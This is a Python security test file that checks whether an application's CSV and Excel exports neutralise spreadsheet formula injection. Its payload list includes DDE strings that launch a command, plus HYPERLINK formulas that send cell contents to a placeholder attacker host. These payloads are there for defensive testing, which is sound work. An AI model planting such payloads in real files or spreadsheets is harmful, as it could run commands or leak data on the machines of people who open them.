"""T32: no cell of any file the house writes is calculated by a spreadsheet."""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any

import pytest
from openpyxl import load_workbook

from tests.factories import THEN, an_answer
from tests.security.visiting import body, signed_in
from tests.security.world import a_batch, a_story
from tumar.access import SYSTEM
from tumar.access.models import Membership
from tumar.evidence.commands import rebuild_case_tallies
from tumar.evidence.models import Batch

FORMULAS = (
    "=1+1", "+996 555 1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1",
    "－1", "＠SUM(1)", "\u200b=1+1", "\ufeff=1+1", "\u00a0=1+1", "  =1+1", "|cmd", "%0A=1",
    "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.invalid/?"&A1)', "=IMPORTXML(A1)", "';=1",
    "'=1+1", "DDE=cmd|'/C calc'!A0",
)  # fmt: skip
STARTERS = tuple("=+-@|%＝＋－＠\t\r\n")
UNSEEN = "\u200b\u200c\u200d\u200e\u200f\u2060\ufeff\u00a0 "


@dataclass
class Calculating:
    """Writes another formula into every place, in turn."""

    spoken: int = 0

    def say(self, slot: str) -> str:
        self.spoken += 1
        return FORMULAS[self.spoken % len(FORMULAS)]

    def many(self, slot: str) -> tuple[str, ...]:
        return FORMULAS


def calculates(cell: str) -> bool:
    """Would a spreadsheet take this cell of a CSV file for a formula?"""
    return cell.lstrip(UNSEEN).startswith(STARTERS) and cell != "-"


def cells_of(content: bytes) -> Iterator[str]:
    text = content.decode("utf-8-sig")
    yield from (cell for row in csv.reader(io.StringIO(text)) for cell in row)
    # As some spreadsheets read it, whatever the comma says.
    yield from (cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row[:1])


@pytest.fixture
def files(by: dict[str, Membership]) -> dict[str, Any]:
    """Every file the house writes, of a store in which every text is a formula."""
    for number, formula in enumerate(FORMULAS):
        a_batch(f"{formula}{number}")
    by["worker"].organisation.name = '=HYPERLINK("http://evil.invalid/","x")'
    by["worker"].organisation.phone = "+996 312 1"
    by["worker"].organisation.save()
    for _story in range(3):
        story = a_story(by, Calculating())
        an_answer(by["worker"], story.person, None, purpose="international_sharing")
    rebuild_case_tallies(actor=SYSTEM, at=THEN)
    chief, analyst = signed_in(by["chief"]), signed_in(by["analyst"])
    found: dict[str, Any] = {}
    for kind in ("csv", "xlsx"):
        for identified in ({}, {"with_identity": "on"}):
            asked = {"kind": kind, "purpose": "international_sharing", **identified}
            found[f"cases {len(identified)} {kind}"] = chief.post(
                "/protection/exchange/export/", asked
            )
        found[f"statistics {kind}"] = analyst.get(f"/statistics/download/{kind}/")
    batch = Batch.objects.first()
    assert batch
    found["refusals csv"] = analyst.get(f"/statistics/import/{batch.pk}/bad-rows.csv")
    assert {name: answer.status_code for name, answer in found.items()} == dict.fromkeys(found, 200)
    return {name: body(answer) for name, answer in found.items()}


def test_no_cell_of_a_csv_file_is_taken_for_a_formula(files: dict[str, bytes]) -> None:
    for name, content in files.items():
        if name.endswith("csv"):
            cells = list(cells_of(content))
            assert len(cells) > 3
            assert [cell for cell in cells if calculates(cell)] == [], name


def test_cells_of_a_workbook_are_text_numbers_or_days(files: dict[str, bytes]) -> None:
    texts = 0
    for name, content in files.items():
        if not name.endswith("xlsx"):
            continue
        for sheet in load_workbook(io.BytesIO(content)).worksheets:
            cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
            assert {cell.data_type for cell in cells} <= {"s", "n", "d"}, name
            assert [cell.hyperlink for cell in cells if cell.hyperlink] == []
            texts += sum(cell.data_type == "s" and calculates(cell.value) for cell in cells)
        parts = zipfile.ZipFile(io.BytesIO(content)).namelist()
        assert not [part for part in parts if "external" in part.lower() or "vba" in part.lower()]

    assert texts >= 3, "if no text looks like a formula, nothing is proved"


def test_an_identity_that_may_leave_is_really_in_the_file(files: dict[str, bytes]) -> None:
    assert files["cases 1 csv"] != files["cases 0 csv"]
    assert b"'=1+1" in files["cases 1 csv"]
